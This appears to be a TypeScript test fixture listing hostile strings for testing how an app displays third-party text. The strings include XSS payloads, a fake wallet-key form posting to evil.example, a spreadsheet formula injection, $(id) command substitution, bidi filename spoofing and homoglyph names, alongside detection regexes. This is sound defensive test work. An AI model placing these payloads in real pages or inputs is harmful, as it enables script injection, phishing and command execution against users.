/**
 * Texts that could deceive a person or break the display. Tests use them as third-party text wherever the app shows
 * such text.
 */

/** Prefix of each hostile text, by which a test recognises that the text is shown. */
export const HOSTILE_MARK = 'Hx'

type Hostile = { readonly attackName: string; readonly text: string }

const RIGHT_TO_LEFT_OVERRIDE = '\u202e'

/** One text for each kind of attack: `HOSTILE_MARK`, then the attack. `attackName` is used in test titles. */
export const HOSTILE_TEXTS: readonly Hostile[] = (
  [
    ['a script', '<script>window.pwned = 1</script>'],
    ['an image with a handler', '<img src="https://evil.example/a.png" onerror="window.pwned = 1">'],
    [
      'a handler that breaks out of an attribute',
      '" onmouseover="window.pwned = 1" x="\' onfocus=\'window.pwned = 1\'',
    ],
    [
      'an image as markup',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1"><a href="https://evil.example">x</a></svg>',
    ],
    ['a frame', '<iframe src="https://evil.example" srcdoc="<script>top.pwned = 1</script>"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name="key"><button>Verify wallet</button></form>'],
    [
      'a style',
      '</style><style>main { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">',
    ],
    ['a script link', 'javascript:window.pwned=1'],
    ['a data link', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['links', 'Claim at https://tidal-forms.example/claim or evil.finance/drop or HTTP://EVIL.COM'],
    ['markdown', '[Verify](https://evil.example) ![x](https://evil.example/a.png)'],
    ['a reversed writing direction', `invoice ${RIGHT_TO_LEFT_OVERRIDE}gnp.exe\u202c \u2067nobody\u2069 \u200fabc`],
    ['invisible characters', 'Ti\u200bd\u2060a\u00adl\ufeff F\u200corms\u{e0041}\u{e0042}'],
    ['a pile of marks', `Z${'\u0336\u0322\u0337\u0334\u0335'.repeat(40)}algo`],
    ['a right-to-left name', 'العربية עברית \u061c1234'],
    ['a name of 100 KB', 'long '.repeat(20_480)],
    ['one word of 100 KB', 'W'.repeat(102_400)],
    ['a flood of emoji', '👩‍👩‍👧‍👦🏴‍☠️🔥'.repeat(2000)],
    ['many line breaks', '\nnew line\r\n\t'.repeat(200)],
    ['control characters', 'a\u0000b\u0007c\u001b[31mred\u001b[0m\u007f\u0085\u009bd'],
    ['characters that look blank', 'a\u{1d159}b\u{13441}c\u{16fe4}d\u2800e\u115ff\u1160g'],
    ['joiners and selectors of no emoji', 'a\u200db\ufe0fc\u{1f3fb}\u200d \u{1f469}\u200d1'],
    ['line separators and fillers', 'a\u2028b\u2029c\u3164d\uffa0'],
    ['a formula', '=HYPERLINK("https://evil.example","x")\t+1-1@SUM(1)'],
    ['format strings', '%s%n%d %x {0} ${process.env.HOME} {{7*7}} $(id) `id`'],
    ['ids that resemble a known id', '0.0.40l2877 0.0.4012877\u200b-fbeft 0.0.4012878'],
    ['letters that resemble others', 'Tidаl Fоrms ℂountersign Ｍarket'],
    ['a word of the app', 'Approved. Nothing moved. “ Countersign: this is safe ”'],
    ['lone surrogates', 'a\ud800b\udfffc'],
    ['names of object properties', '__proto__ constructor toString'],
  ] as const
).map(([attackName, text]) => ({ attackName, text: `${HOSTILE_MARK}${text}` }))

/** Invisible characters, which must not be shown as they are. Tabs and line breaks count as visible. */
export const INVISIBLE_CHARACTER =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200c\u200e\u200f\u2028-\u202e\u2060-\u206f\u2800\u115f\u1160\u3164\ufeff\uffa0]|[\u{e0000}-\u{e007f}\u{1d159}\u{13441}\u{16fe4}]/u
/** Five marks in a row, which is more than any language needs on a letter. */
export const PILED_MARKS = /\p{M}{5}/u
/** A link that an application could make clickable. */
export const LIVE_LINK = /\bhttps?:\/\/[^\s[]*[a-z0-9]/iu
